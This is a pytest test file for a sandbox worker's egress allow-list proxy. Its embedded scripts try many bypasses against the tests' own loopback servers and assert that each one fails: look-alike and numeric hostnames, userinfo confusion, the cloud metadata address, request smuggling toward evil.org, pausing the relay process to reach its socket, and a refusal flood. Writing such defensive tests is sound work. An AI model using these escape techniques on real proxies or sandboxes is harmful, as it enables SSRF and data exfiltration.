"""Escapes from a run's egress allow-list, tried for real on the local runtime (root) and the Docker runtime: proxy
tricks (other names that look like the allowed one, addresses, user-info, smuggled requests, methods), going around
the proxy (a network namespace of the run's own, the relay killed and the socket used directly, a proxy of the
caller's in the environment), a warm workspace's held sandbox, and a flood of refusals (counted, listed bounded).
Servers are the tests' own on the host's loopback; nothing leaves the machine."""

from __future__ import annotations

import json

import pytest
from pydantic import ValidationError

from tests.conftest import write_skill
from tests.egress_hosts import ALLOWED, allowed_server  # noqa: F401 - the allowed host's server
from tests.integration.conftest import docker_engine, docker_runtime_factory  # noqa: F401 - shared fixtures
from worker.contract import RunRequest, RuntimeName, SkillRef
from worker.egress.proxy import MAX_REFUSALS_LISTED
from worker.runtimes.local.runtime import LocalWorkspaceRuntime

TRICKS = r'''
import json, os, socket, subprocess, sys
port = int(sys.argv[1])
proxy = ("127.0.0.1", 3128)

def ask(head, whole=True):
    with socket.create_connection(proxy, timeout=10) as s:
        s.sendall(head.encode())
        answer = s.recv(65536)
        while whole and (chunk := s.recv(65536)):
            answer += chunk
    return answer.decode("latin-1")

def status(head, whole=True):
    try:
        answer = ask(head, whole)
        return answer.split(" ")[1] if answer.startswith("HTTP/") else answer[:40]
    except OSError as exc:
        return "error " + type(exc).__name__

def connect(target):
    return status(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n", whole=False)

found = {
    "suffix_of_allowed": connect(f"ALLOWED.evil.org:{port}"),
    "allowed_as_suffix": connect(f"evilALLOWED:{port}"),
    "userinfo": connect(f"ALLOWED:{port}@evil.org"),
    "userinfo_other_way": connect(f"evil.org:443@ALLOWED:{port}"),
    "ipv6_loopback": connect(f"[::1]:{port}"),
    "decimal_address": connect(f"2130706433:{port}"),
    "hex_address": connect(f"0x7f.0x1:{port}"),
    "metadata": connect("169.254.169.254:80"),
    "case_and_dot": connect(f"{'ALLOWED'.upper()}.:{port}"),
    "post": status(f"POST http://ALLOWED:{port}/x HTTP/1.1\r\nHost: ALLOWED\r\nContent-Length: 2\r\n\r\nhi"),
    "plain_to_other": status("GET http://evil.org/ HTTP/1.1\r\nHost: evil.org\r\n\r\n"),
    "https_uri": status(f"GET https://ALLOWED:{port}/ HTTP/1.1\r\nHost: ALLOWED\r\n\r\n"),
    "garbage": status("\x16\x03\x01 not http at all\r\n\r\n"),
}
smuggled = ask(f"GET http://ALLOWED:{port}/first HTTP/1.1\r\nHost: ALLOWED:{port}\r\n\r\n"
               f"GET http://evil.org/second HTTP/1.1\r\nHost: evil.org\r\n\r\n")
found["smuggled"] = [line for line in smuggled.split("\r\n") if line.startswith(("HTTP/", "reached"))]
found["unshare"] = subprocess.run(["unshare", "-rn", "true"], capture_output=True).returncode
found["env"] = os.environ["HTTPS_PROXY"]
print(json.dumps(found))
'''.replace("ALLOWED", ALLOWED)

FLOOD = r'''
import socket
for i in range(200):
    with socket.create_connection(("127.0.0.1", 3128), timeout=10) as s:
        s.sendall(f"CONNECT host{i}.evil.org:443 HTTP/1.1\r\n\r\n".encode())
        s.recv(4096)
print("done")
'''

AROUND_THE_RELAY = r'''
import glob, os, signal, socket
relay = [int(p) for p in os.listdir("/proc") if p.isdigit() and b"-c" in open(f"/proc/{p}/cmdline", "rb").read()
         and b"SO_REUSEADDR" in open(f"/proc/{p}/cmdline", "rb").read()]
for pid in relay:
    os.kill(pid, signal.SIGSTOP)  # the relay is no guard: stopped, the socket behind it is used directly
try:
    os.chdir(os.environ["WORKSPACE_DIR"])  # a socket's path may be at most 107 bytes
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(glob.glob(".skillrun-egress-*.sock")[0])
        s.sendall(b"CONNECT evil.org:443 HTTP/1.1\r\n\r\n")
        print(len(relay), s.recv(4096).decode().split("\r\n")[0])
finally:
    for pid in relay:
        os.kill(pid, signal.SIGCONT)
'''


@pytest.fixture
def attack_skill(shared_dir):
    root = shared_dir / "egress-attacks"
    write_skill(root, "tricks", files={"tricks.py": TRICKS, "flood.py": FLOOD, "around.py": AROUND_THE_RELAY})
    for path in [root, *root.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    return SkillRef(name="tricks", root=str(root), path="tricks")


@pytest.fixture(params=[pytest.param("local", marks=pytest.mark.root), pytest.param("docker", marks=pytest.mark.docker)])
def runtime_name(request) -> RuntimeName:
    return RuntimeName(request.param)


@pytest.fixture
async def runtime(runtime_name, work_root, request):
    if runtime_name == RuntimeName.DOCKER:
        yield request.getfixturevalue("docker_runtime_factory")()
        return
    made = LocalWorkspaceRuntime(work_root)
    yield made
    await made.close()


def _request(skill: SkillRef, runtime_name: RuntimeName, command: str, port: int, **fields) -> RunRequest:
    return RunRequest(skill=skill, command=command, runtime=runtime_name, timeout=120,
                      egress=[f"*.allowed-egress.net:{port}"], **fields)


async def test_proxy_tricks_reach_nothing_but_the_allowed_host(runtime, runtime_name, attack_skill, allowed_server):
    result = await runtime.run(_request(attack_skill, runtime_name, f"python3 tricks.py {allowed_server}",
                                        allowed_server, env={"HTTPS_PROXY": "http://203.0.113.9:8080"}))
    assert result.exit_code == 0, result.stderr
    found = json.loads(result.stdout)
    for name in ("suffix_of_allowed", "allowed_as_suffix", "ipv6_loopback", "decimal_address", "hex_address",
                 "metadata", "plain_to_other"):
        assert found[name] == "403", (name, found)
    for name in ("userinfo", "userinfo_other_way", "https_uri", "garbage"):
        assert found[name] == "400", (name, found)
    assert found["post"] == "405"  # plain HTTP carries reads only; anything else goes through a CONNECT tunnel
    assert found["case_and_dot"] == "200"  # the same host, however it is spelled
    assert found["smuggled"] == ["HTTP/1.0 200 OK", "reached /first"]  # the second request went nowhere
    assert found["unshare"] != 0  # no network namespace of the run's own
    assert found["env"] == "http://127.0.0.1:3128"  # the caller's proxy setting does not win over the worker's
    assert result.egress_refused == 12
    assert {refusal.destination for refusal in result.egress_refusals} >= {
        f"{ALLOWED}.evil.org:{allowed_server}", "169.254.169.254:80", "evil.org:80"}


async def test_a_flood_of_refusals_is_counted_and_listed_bounded(runtime, runtime_name, attack_skill, allowed_server):
    result = await runtime.run(_request(attack_skill, runtime_name, "python3 flood.py", allowed_server))
    assert result.exit_code == 0 and result.stdout == "done\n", result.stderr
    assert result.egress_refused == 200
    assert len(result.egress_refusals) == MAX_REFUSALS_LISTED
    assert result.egress_refusals[0].destination == "host0.evil.org:443"


@pytest.mark.docker
async def test_a_docker_run_that_goes_around_its_relay_still_meets_the_proxy(docker_runtime_factory, attack_skill,
                                                                             allowed_server):
    result = await docker_runtime_factory().run(
        _request(attack_skill, RuntimeName.DOCKER, "python3 around.py", allowed_server))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "1 HTTP/1.1 403 Forbidden\n"
    assert result.egress_refused == 1


@pytest.mark.root
async def test_a_warm_workspace_runs_with_an_allow_list_in_a_sandbox_of_their_own(work_root, attack_skill,
                                                                                  allowed_server):
    runtime = LocalWorkspaceRuntime(work_root, spawners="eager")
    reach = (f"python3 -c \"import urllib.request; print(urllib.request.urlopen("
             f"'http://{ALLOWED}:{allowed_server}/', timeout=5).read().decode())\"")
    try:
        offline = RunRequest(skill=attack_skill, command=reach, workspace_id="warm", timeout=60)
        first = await runtime.run(offline)  # the workspace's held sandbox is made
        allowed = await runtime.run(_request(attack_skill, RuntimeName.LOCAL, reach, allowed_server,
                                             workspace_id="warm"))
        after = await runtime.run(offline.model_copy(update={"run_id": "after"}))
    finally:
        await runtime.close()
    assert first.exit_code != 0 and "reached" not in first.stdout
    assert allowed.exit_code == 0 and allowed.stdout == "reached /\n", allowed.stderr
    assert after.exit_code != 0 and "reached" not in after.stdout  # nothing of the proxy stayed for the next run


def test_a_run_cannot_have_an_allow_list_and_the_network_too():
    with pytest.raises(ValidationError, match="cannot ask for network too"):
        RunRequest(skill=SkillRef(name="x", root="/nowhere"), command="true", egress=["api.example.com"],
                   network=True)
